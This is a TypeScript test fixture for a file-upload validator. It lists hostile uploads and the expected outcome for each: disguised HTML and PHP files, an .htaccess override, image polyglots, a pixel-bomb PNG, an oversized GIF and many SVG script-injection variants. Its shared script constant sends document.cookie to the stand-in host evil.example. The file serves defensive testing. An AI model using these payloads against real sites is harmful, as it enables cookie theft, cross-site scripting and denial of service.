import sharp from 'sharp';
import { createJpeg, createPng } from './file-site.js';

/** What is uploaded, to which field, and what becomes of it: it is refused, or served as a type that nothing executes. */
export type HostileFile = readonly [
  title: string,
  field: string,
  name: string,
  bytes: () => Buffer | Promise<Buffer>,
  outcome: string,
];

export const REFUSED = 'refused';

/** Where the scripts of these files send what they have read. */
export const EVIL_ORIGIN = 'https://evil.example';

/** Leaves traces in any page, and then tells others what the page knows. It fits into attributes and XML. */
export const SCRIPT = `alert(1);document.title='executed';fetch('${EVIL_ORIGIN}/?'+document.cookie)`;

const text = (content: string) => (): Buffer => Buffer.from(content);
const svg = (content: string, attributes = '') =>
  text(`<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" ${attributes}>${content}</svg>`);
const XHTML = 'http://www.w3.org/1999/xhtml';
const HTML = `<!DOCTYPE html><html><body><script>${SCRIPT}</script></body></html>`;

/** The head of a PNG that announces 30,000 × 30,000 pixels. */
async function createBomb(): Promise<Buffer> {
  const png = Buffer.from(await createPng());
  png.writeUInt32BE(30_000, 16);
  png.writeUInt32BE(30_000, 20);
  const { crc32 } = await import('node:zlib').then(
    (zlib) => zlib as unknown as { crc32?: (data: Buffer) => number },
  );
  if (crc32 !== undefined) png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

/** An animation of 60 frames of one megapixel each, in a few hundred bytes. */
function createLongAnimation(): Buffer {
  const size = [0xe8, 0x03, 0xe8, 0x03];
  const screen = [...size, 0x80, 0, 0, 0, 0, 0, 255, 255, 255];
  const frame = [0x21, 0xf9, 4, 0, 10, 0, 0, 0, 0x2c, 0, 0, 0, 0, ...size, 0, 2, 2, 0x4c, 1, 0];
  const frames = Array.from({ length: 60 }, () => frame).flat();
  return Buffer.from([...Buffer.from('GIF89a'), ...screen, ...frames, 0x3b]);
}

export const IMAGE = 'field_photo';
export const DRAWING = 'field_drawing';
export const FILES = 'field_files';

export const HOSTILE_FILES: readonly HostileFile[] = [
  ['HTML as text', FILES, 'a.txt', text(HTML), 'text/plain; charset=utf-8'],
  ['HTML as a picture', IMAGE, 'a.png', text(HTML), REFUSED],
  ['HTML by its extension', FILES, 'a.html', text(HTML), REFUSED],
  ['HTML with an extension behind', FILES, 'a.html.txt', text(HTML), REFUSED],
  ['a script as text', FILES, 'a.txt', text(SCRIPT), 'text/plain; charset=utf-8'],
  ['a script by its extension', FILES, 'a.js', text(SCRIPT), REFUSED],
  ['PHP in upper case', FILES, 'a.PHP', text('<?php'), REFUSED],
  ['PHP with an extension behind', IMAGE, 'a.php.jpg', () => createJpeg(), REFUSED],
  [
    'a configuration of a web server',
    FILES,
    '.htaccess',
    text('AddType application/x-httpd-php .txt'),
    REFUSED,
  ],
  ['a GIF that is a script, too', IMAGE, 'a.gif', text(`GIF89a/*\u0001\u0001*/=1;${SCRIPT}`), REFUSED],
  [
    'a PNG with HTML behind it',
    IMAGE,
    'a.png',
    async () => Buffer.concat([await createPng(), Buffer.from(HTML)]),
    'image/png',
  ],
  [
    'a JPEG with HTML in its comment',
    IMAGE,
    'a.jpg',
    () =>
      sharp({ create: { width: 8, height: 8, channels: 3, background: '#123' } })
        .withExif({ IFD0: { ImageDescription: HTML } })
        .jpeg()
        .toBuffer(),
    'image/jpeg',
  ],
  ['a PNG that says it is a JPEG', IMAGE, 'a.jpg', () => createPng(), REFUSED],
  ['a PDF that says it is a PNG', IMAGE, 'a.png', text('%PDF-1.7\n'), REFUSED],
  ['a PNG that says it is text', FILES, 'a.txt', () => createPng(), REFUSED],
  ['a program that says it is a PDF', FILES, 'a.pdf', text('MZ\u0090\u0000'), REFUSED],
  ['text that says it is a ZIP', FILES, 'a.zip', text('text'), REFUSED],
  ['an image of 900 megapixels', IMAGE, 'a.png', createBomb, REFUSED],
  ['an animation of 60 megapixels', IMAGE, 'a.gif', createLongAnimation, REFUSED],
  ['an SVG where none is accepted', IMAGE, 'a.svg', svg(''), REFUSED],
  ['an SVG with shapes', DRAWING, 'a.svg', svg('<defs><g id="a"/></defs><use href="#a"/>'), 'image/svg+xml'],
  ['an SVG with a script', DRAWING, 'a.svg', svg(`<script>${SCRIPT}</script>`), REFUSED],
  [
    'an SVG with a script in a namespace',
    DRAWING,
    'a.svg',
    svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${SCRIPT}</s:script>`),
    REFUSED,
  ],
  ['an SVG with a handler', DRAWING, 'a.svg', svg('', `onload="${SCRIPT}"`), REFUSED],
  [
    'an SVG with HTML inside',
    DRAWING,
    'a.svg',
    svg(`<foreignObject><body xmlns="${XHTML}"><img src="" onerror="${SCRIPT}"/></body></foreignObject>`),
    REFUSED,
  ],
  ['an SVG with a link that is a script', DRAWING, 'a.svg', svg(`<a href="javascript:${SCRIPT}"/>`), REFUSED],
  [
    'an SVG that loads a picture',
    DRAWING,
    'a.svg',
    svg(`<image width="8" height="8" href="${EVIL_ORIGIN}/x"/>`),
    REFUSED,
  ],
  [
    'an SVG that loads a style',
    DRAWING,
    'a.svg',
    svg(`<style>@import url(${EVIL_ORIGIN}/x);</style>`),
    REFUSED,
  ],
  [
    'an SVG that loads by a style attribute',
    DRAWING,
    'a.svg',
    svg(`<rect width="8" height="8" style="fill:url(${EVIL_ORIGIN}/x#a)"/>`),
    REFUSED,
  ],
  [
    'an SVG that changes an address',
    DRAWING,
    'a.svg',
    svg(`<a><set attributeName="href" to="javascript:${SCRIPT}"/></a>`),
    REFUSED,
  ],
  [
    'an SVG with entities',
    DRAWING,
    'a.svg',
    text('<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'),
    REFUSED,
  ],
  [
    'an SVG with a style sheet',
    DRAWING,
    'a.svg',
    text(`<?xml-stylesheet href="${EVIL_ORIGIN}/x"?><svg xmlns="http://www.w3.org/2000/svg"/>`),
    REFUSED,
  ],
  [
    'an SVG in UTF-16',
    DRAWING,
    'a.svg',
    () =>
      Buffer.from(
        `\ufeff<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`,
        'utf16le',
      ),
    REFUSED,
  ],
  [
    'XHTML that says it is an SVG',
    DRAWING,
    'a.svg',
    text(`<html xmlns="${XHTML}"><script>${SCRIPT}</script></html>`),
    REFUSED,
  ],
  ['an SVG of more than 2 MiB', DRAWING, 'a.svg', svg(' '.repeat(2 * 1024 * 1024)), REFUSED],
];
